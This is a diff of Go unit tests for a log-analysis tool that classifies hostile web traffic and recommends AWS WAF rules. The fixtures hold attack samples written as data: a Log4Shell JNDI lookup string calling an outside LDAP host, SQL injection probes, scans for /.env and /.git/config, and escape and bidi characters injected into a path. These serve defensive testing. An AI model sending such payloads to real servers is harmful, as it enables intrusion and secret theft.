@@ -1,4 +1,4 @@
-package analysis
+package offline
 
 import (
 	"context"
@@ -8,15 +8,16 @@ import (
 	"testing"
 	"time"
 
+	"github.com/logsift/logsift/internal/analysis"
 	"github.com/logsift/logsift/internal/evidence"
 )
 
-var offT0 = time.Date(2026, 11, 20, 10, 0, 0, 0, time.UTC)
+var t0 = time.Date(2026, 11, 20, 10, 0, 0, 0, time.UTC)
 
-// offActor builds an actor from hits, with severity and categories as the
+// actor builds an actor from hits, with severity and categories as the
 // rules set them.
-func offActor(id string, requests int64, span time.Duration, hits ...evidence.Hit) evidence.Actor {
-	a := evidence.Actor{Actor: id, Requests: requests, FirstSeen: offT0, LastSeen: offT0.Add(span), Hits: hits}
+func actor(id string, requests int64, span time.Duration, hits ...evidence.Hit) evidence.Actor {
+	a := evidence.Actor{Actor: id, Requests: requests, FirstSeen: t0, LastSeen: t0.Add(span), Hits: hits}
 	for _, h := range hits {
 		a.Severity = max(a.Severity, h.Severity)
 		if !slices.Contains(a.Categories, h.Category) {
@@ -26,42 +27,42 @@ func offActor(id string, requests int64, span time.Duration, hits ...evidence.Hi
 	return a
 }
 
-func offHit(c evidence.Category, sev evidence.Severity, n int64, samples ...evidence.Sample) evidence.Hit {
+func hit(c evidence.Category, sev evidence.Severity, n int64, samples ...evidence.Sample) evidence.Hit {
 	return evidence.Hit{Rule: string(c), Category: c, Severity: sev, Count: n, Reason: fmt.Sprintf("%d requests", n), Samples: samples}
 }
 
-func offSample(target string, status int, ua string) evidence.Sample {
-	return evidence.Sample{Line: 7, Time: offT0, Method: "GET", Target: target, Status: status, UA: ua}
+func sample(target string, status int, ua string) evidence.Sample {
+	return evidence.Sample{Line: 7, Time: t0, Method: "GET", Target: target, Status: status, UA: ua}
 }
 
-func offFixture() []evidence.Actor {
+func fixture() []evidence.Actor {
 	return []evidence.Actor{
-		offActor("203.0.113.10", 20, 10*time.Minute,
-			offHit(evidence.SensitiveFiles, evidence.Medium, 14,
-				offSample("/.env", 200, "x"), offSample("/.git/config", 404, "x"), offSample("/.env.production", 200, "x")),
-			offHit(evidence.Log4Shell, evidence.Critical, 1, offSample("/", 200, "${jndi:ldap://198.51.100.9/a}"))),
-		offActor("198.51.100.20", 13, 2*time.Minute,
-			offHit(evidence.SQLInjection, evidence.High, 12, offSample("/api/products?id=1%27", 500, "Mozilla"), offSample("/api/products?id=1 union select", 200, "Mozilla"))),
-		offActor("198.51.100.21", 12, time.Minute,
-			offHit(evidence.WordPressScan, evidence.Medium, 11, offSample("/wp-login.php", 404, "Mozilla"), offSample("/xmlrpc.php", 404, "Mozilla"))),
-		offActor("192.0.2.30", 1000, 5*time.Minute,
-			offHit(evidence.AggressiveCrawl, evidence.Low, 1000, offSample("/pricing", 200, "python-httpx/0.27"))),
-		offActor("2001:db8:1::/64", 60, 4*time.Minute,
-			offHit(evidence.BruteForce, evidence.High, 60, offSample("/api/login", 401, "python-requests"))),
+		actor("203.0.113.10", 20, 10*time.Minute,
+			hit(evidence.SensitiveFiles, evidence.Medium, 14,
+				sample("/.env", 200, "x"), sample("/.git/config", 404, "x"), sample("/.env.production", 200, "x")),
+			hit(evidence.Log4Shell, evidence.Critical, 1, sample("/", 200, "${jndi:ldap://198.51.100.9/a}"))),
+		actor("198.51.100.20", 13, 2*time.Minute,
+			hit(evidence.SQLInjection, evidence.High, 12, sample("/api/products?id=1%27", 500, "Mozilla"), sample("/api/products?id=1 union select", 200, "Mozilla"))),
+		actor("198.51.100.21", 12, time.Minute,
+			hit(evidence.WordPressScan, evidence.Medium, 11, sample("/wp-login.php", 404, "Mozilla"), sample("/xmlrpc.php", 404, "Mozilla"))),
+		actor("192.0.2.30", 1000, 5*time.Minute,
+			hit(evidence.AggressiveCrawl, evidence.Low, 1000, sample("/pricing", 200, "python-httpx/0.27"))),
+		actor("2001:db8:1::/64", 60, 4*time.Minute,
+			hit(evidence.BruteForce, evidence.High, 60, sample("/api/login", 401, "python-requests"))),
 		{Actor: "81.102.46.34", Requests: 40}, // not suspicious
 	}
 }
 
 func TestOfflineClassify(t *testing.T) {
-	actors := offFixture()
-	res, err := Offline{}.Classify(context.Background(), actors, nil)
+	actors := fixture()
+	res, err := Analyzer{}.Classify(context.Background(), actors, nil)
 	if err != nil {
 		t.Fatal(err)
 	}
 	if len(res.Verdicts) != 5 {
 		t.Fatalf("%d verdicts, want one per suspicious actor (5)", len(res.Verdicts))
 	}
-	by := map[string]Verdict{}
+	by := map[string]analysis.Verdict{}
 	for _, v := range res.Verdicts {
 		by[v.Actor] = v
 		if v.Source != "rules" || v.Confidence <= 0 || v.Confidence > 1 || v.Rationale == "" {
@@ -84,28 +85,28 @@ func TestOfflineClassify(t *testing.T) {
 		}
 	}
 	// A 2xx on a sensitive file raises a medium finding to high.
-	exposed := offActor("192.0.2.1", 3, 0, offHit(evidence.SensitiveFiles, evidence.Medium, 3, offSample("/.env", 200, "")))
-	quiet := offActor("192.0.2.2", 3, 0, offHit(evidence.SensitiveFiles, evidence.Medium, 3, offSample("/.env", 404, "")))
-	if got := OfflineVerdict(&exposed).Severity; got != evidence.High {
+	exposed := actor("192.0.2.1", 3, 0, hit(evidence.SensitiveFiles, evidence.Medium, 3, sample("/.env", 200, "")))
+	quiet := actor("192.0.2.2", 3, 0, hit(evidence.SensitiveFiles, evidence.Medium, 3, sample("/.env", 404, "")))
+	if got := Verdict(&exposed).Severity; got != evidence.High {
 		t.Errorf("exposed: severity %s, want high", got)
 	}
-	if got := OfflineVerdict(&quiet).Severity; got != evidence.Medium {
+	if got := Verdict(&quiet).Severity; got != evidence.Medium {
 		t.Errorf("not exposed: severity %s, want medium", got)
 	}
 	// More and more varied evidence gives more confidence.
-	if strong, weak := by["203.0.113.10"].Confidence, OfflineVerdict(&quiet).Confidence; strong <= weak {
+	if strong, weak := by["203.0.113.10"].Confidence, Verdict(&quiet).Confidence; strong <= weak {
 		t.Errorf("confidence strong %v <= weak %v", strong, weak)
 	}
 }
 
 func TestOfflineRationaleHostile(t *testing.T) {
-	a := offActor("192.0.2.9", 5, 0, offHit(evidence.SensitiveFiles, evidence.Medium, 5,
-		offSample("/.env\x1b[31m\u202e"+strings.Repeat("A", 5000), 404, "")))
-	v := OfflineVerdict(&a)
+	a := actor("192.0.2.9", 5, 0, hit(evidence.SensitiveFiles, evidence.Medium, 5,
+		sample("/.env\x1b[31m\u202e"+strings.Repeat("A", 5000), 404, "")))
+	v := Verdict(&a)
 	if strings.ContainsAny(v.Rationale, "\x1b\u202e") {
 		t.Errorf("control or bidi characters reached the rationale: %q", v.Rationale)
 	}
-	if len(v.Rationale) > MaxRationaleLen {
+	if len(v.Rationale) > analysis.MaxRationaleLen {
 		t.Errorf("rationale is %d bytes", len(v.Rationale))
 	}
 }
@@ -113,7 +114,7 @@ func TestOfflineRationaleHostile(t *testing.T) {
 func TestOfflineObservations(t *testing.T) {
 	c := evidence.Campaign{Kind: "shared-user-agent", Key: "Odd/1.0", Actors: []string{"192.0.2.1", "192.0.2.2", "192.0.2.3", "192.0.2.4", "192.0.2.5"},
 		Categories: []evidence.Category{evidence.SensitiveFiles}, Requests: 20, Severity: evidence.Medium}
-	res, err := Offline{}.Classify(context.Background(), nil, []evidence.Campaign{c})
+	res, err := Analyzer{}.Classify(context.Background(), nil, []evidence.Campaign{c})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -122,9 +123,9 @@ func TestOfflineObservations(t *testing.T) {
 	}
 }
 
-func offRecommend(t *testing.T, format string, actors []evidence.Actor) []Recommendation {
+func recommend(t *testing.T, format string, actors []evidence.Actor) []analysis.Recommendation {
 	t.Helper()
-	res, err := Offline{Format: format}.Recommend(context.Background(), RecommendInput{Actors: actors})
+	res, err := Analyzer{Format: format}.Recommend(context.Background(), analysis.RecommendInput{Actors: actors})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -132,7 +133,7 @@ func offRecommend(t *testing.T, format string, actors []evidence.Actor) []Recomm
 	for _, a := range actors {
 		known[a.Actor] = true
 	}
-	kinds := []string{ActionWAFIPSet, ActionWAFManaged, ActionWAFRateBased, ActionWAFCustom, ActionApp, ActionServer}
+	kinds := []string{analysis.ActionWAFIPSet, analysis.ActionWAFManaged, analysis.ActionWAFRateBased, analysis.ActionWAFCustom, analysis.ActionApp, analysis.ActionServer}
 	for i, r := range res.Recommendations {
 		if r.Priority != i+1 {
 			t.Errorf("recommendation %d has priority %d", i, r.Priority)
@@ -154,7 +155,7 @@ func offRecommend(t *testing.T, format string, actors []evidence.Actor) []Recomm
 	return res.Recommendations
 }
 
-func offFind(recs []Recommendation, sub string) *Recommendation {
+func find(recs []analysis.Recommendation, sub string) *analysis.Recommendation {
 	for i := range recs {
 		if strings.Contains(recs[i].Title, sub) {
 			return &recs[i]
@@ -164,25 +165,25 @@ func offFind(recs []Recommendation, sub string) *Recommendation {
 }
 
 func TestOfflineRecommend(t *testing.T) {
-	recs := offRecommend(t, "amplify", offFixture())
+	recs := recommend(t, "amplify", fixture())
 	if !strings.Contains(recs[0].Title, "Rotate") || !strings.Contains(recs[0].Detail, "/.env") {
 		t.Errorf("first recommendation %q, want rotating what /.env exposed", recs[0].Title)
 	}
 	for _, group := range []string{"AWSManagedRulesKnownBadInputsRuleSet", "AWSManagedRulesSQLiRuleSet", "AWSManagedRulesCommonRuleSet", "AWSManagedRulesAmazonIpReputationList", "AWSManagedRulesBotControlRuleSet"} {
-		if offFind(recs, group) == nil {
+		if find(recs, group) == nil {
 			t.Errorf("no recommendation for %s", group)
 		}
 	}
 	// WordPress paths all failed: the site is not WordPress, so no WordPress
 	// rule group, but a path rule that blocks them.
-	if offFind(recs, "AWSManagedRulesWordPressRuleSet") != nil {
+	if find(recs, "AWSManagedRulesWordPressRuleSet") != nil {
 		t.Error("recommended the WordPress rule group for a site that is not WordPress")
 	}
-	custom := offFind(recs, "custom rule")
+	custom := find(recs, "custom rule")
 	if custom == nil || !strings.Contains(custom.Detail, "/wp-login.php") || !strings.Contains(custom.Detail, "/.env") {
 		t.Fatalf("path rule: %+v", custom)
 	}
-	ipset := offFind(recs, "IP set")
+	ipset := find(recs, "IP set")
 	if ipset == nil || slices.Contains(ipset.Actors, "192.0.2.30") || !slices.Contains(ipset.Actors, "203.0.113.10") {
 		t.Fatalf("IP set should list medium+ actors only: %+v", ipset)
 	}
@@ -193,40 +194,40 @@ func TestOfflineRecommend(t *testing.T) {
 		t.Error("Amplify: the IP set advice does not say how WAF attaches to Amplify")
 	}
 	// 1000 requests in 5 minutes: half of it, rounded down to a nice number.
-	if rate := offFind(recs, "rate-based rule"); rate == nil || !strings.Contains(rate.Title, "500 requests per 5 minutes") {
+	if rate := find(recs, "rate-based rule"); rate == nil || !strings.Contains(rate.Title, "500 requests per 5 minutes") {
 		t.Errorf("rate-based rule: %+v", rate)
 	}
-	login := offFind(recs, "login endpoint")
+	login := find(recs, "login endpoint")
 	if login == nil || !strings.Contains(login.Detail, "/api/login") || !slices.Equal(login.Actors, []string{"2001:db8:1::/64"}) {
 		t.Errorf("login rate limit: %+v", login)
 	}
-	if fix := offFind(recs, "5xx to attack payloads"); fix == nil || !strings.Contains(fix.Detail, "/api/products") || !strings.Contains(fix.Detail, "SQL injection") {
+	if fix := find(recs, "5xx to attack payloads"); fix == nil || !strings.Contains(fix.Detail, "/api/products") || !strings.Contains(fix.Detail, "SQL injection") {
 		t.Errorf("no fix for the handler that failed on SQL injection: %+v", fix)
 	}
-	sqli := offFind(recs, "SQLiRuleSet")
+	sqli := find(recs, "SQLiRuleSet")
 	if sqli == nil || !slices.Equal(sqli.Actors, []string{"198.51.100.20"}) || !slices.Equal(sqli.Categories, []evidence.Category{evidence.SQLInjection}) {
 		t.Errorf("SQLi rule group should address the SQLi actor: %+v", sqli)
 	}
 }
 
 func TestOfflineRecommendOnlyWhatWasSeen(t *testing.T) {
-	recs := offRecommend(t, "combined", []evidence.Actor{
-		offActor("192.0.2.7", 40, time.Minute, offHit(evidence.WordPressScan, evidence.Medium, 40,
-			offSample("/wp-login.php", 200, "Mozilla"), offSample("/wp-admin/", 302, "Mozilla"))),
+	recs := recommend(t, "combined", []evidence.Actor{
+		actor("192.0.2.7", 40, time.Minute, hit(evidence.WordPressScan, evidence.Medium, 40,
+			sample("/wp-login.php", 200, "Mozilla"), sample("/wp-admin/", 302, "Mozilla"))),
 	})
 	for _, absent := range []string{"Rotate", "SQLi", "KnownBadInputs", "Bot Control", "Amplify", "login endpoint"} {
-		if r := offFind(recs, absent); r != nil {
+		if r := find(recs, absent); r != nil {
 			t.Errorf("recommended %q without evidence for it", r.Title)
 		}
 	}
 	// wp-login.php answered 200: this may be a WordPress site.
-	if offFind(recs, "AWSManagedRulesWordPressRuleSet") == nil {
+	if find(recs, "AWSManagedRulesWordPressRuleSet") == nil {
 		t.Error("WordPress answered 2xx but the WordPress rule group was not recommended")
 	}
-	if r := offFind(recs, "custom rule"); r != nil && strings.Contains(r.Detail, "wp-") {
+	if r := find(recs, "custom rule"); r != nil && strings.Contains(r.Detail, "wp-") {
 		t.Errorf("path rule would block the site's own WordPress: %s", r.Detail)
 	}
-	if recs := offRecommend(t, "", nil); len(recs) != 0 {
+	if recs := recommend(t, "", nil); len(recs) != 0 {
 		t.Errorf("no findings, %d recommendations", len(recs))
 	}
 }
@@ -234,32 +235,32 @@ func TestOfflineRecommendOnlyWhatWasSeen(t *testing.T) {
 func TestOfflineCanceled(t *testing.T) {
 	ctx, cancel := context.WithCancel(context.Background())
 	cancel()
-	if _, err := (Offline{}).Classify(ctx, offFixture(), nil); err == nil {
+	if _, err := (Analyzer{}).Classify(ctx, fixture(), nil); err == nil {
 		t.Error("Classify ignored a canceled context")
 	}
-	if _, err := (Offline{}).Recommend(ctx, RecommendInput{}); err == nil {
+	if _, err := (Analyzer{}).Recommend(ctx, analysis.RecommendInput{}); err == nil {
 		t.Error("Recommend ignored a canceled context")
 	}
 }
 
 func TestOfflineRecommendCampaignUA(t *testing.T) {
 	actors := []evidence.Actor{
-		offActor("192.0.2.1", 4, time.Minute, offHit(evidence.SensitiveFiles, evidence.Medium, 3, offSample("/.env", 404, "Odd/1.0"))),
-		offActor("192.0.2.2", 4, time.Minute, offHit(evidence.SensitiveFiles, evidence.Medium, 3, offSample("/.env", 404, "Odd/1.0"))),
+		actor("192.0.2.1", 4, time.Minute, hit(evidence.SensitiveFiles, evidence.Medium, 3, sample("/.env", 404, "Odd/1.0"))),
+		actor("192.0.2.2", 4, time.Minute, hit(evidence.SensitiveFiles, evidence.Medium, 3, sample("/.env", 404, "Odd/1.0"))),
 	}
 	c := evidence.Campaign{Kind: "shared-user-agent", Key: "Odd/1.0", Actors: []string{"192.0.2.1", "192.0.2.2"},
 		Categories: []evidence.Category{evidence.SensitiveFiles}, Requests: 8, Severity: evidence.Medium}
-	res, err := Offline{}.Recommend(context.Background(), RecommendInput{Actors: actors, Campaigns: []evidence.Campaign{c}})
+	res, err := Analyzer{}.Recommend(context.Background(), analysis.RecommendInput{Actors: actors, Campaigns: []evidence.Campaign{c}})
 	if err != nil {
 		t.Fatal(err)
 	}
-	r := offFind(res.Recommendations, "user agent shared")
-	if r == nil || !strings.Contains(r.Detail, `"Odd/1.0"`) || len(r.Actors) != 2 || r.Kind != ActionWAFCustom {
+	r := find(res.Recommendations, "user agent shared")
+	if r == nil || !strings.Contains(r.Detail, `"Odd/1.0"`) || len(r.Actors) != 2 || r.Kind != analysis.ActionWAFCustom {
 		t.Fatalf("campaign UA rule: %+v", r)
 	}
 	c.Severity = evidence.Low
-	res, _ = Offline{}.Recommend(context.Background(), RecommendInput{Actors: actors, Campaigns: []evidence.Campaign{c}})
-	if offFind(res.Recommendations, "user agent shared") != nil {
+	res, _ = Analyzer{}.Recommend(context.Background(), analysis.RecommendInput{Actors: actors, Campaigns: []evidence.Campaign{c}})
+	if find(res.Recommendations, "user agent shared") != nil {
 		t.Error("low-severity campaign got a blocking rule")
 	}
 }
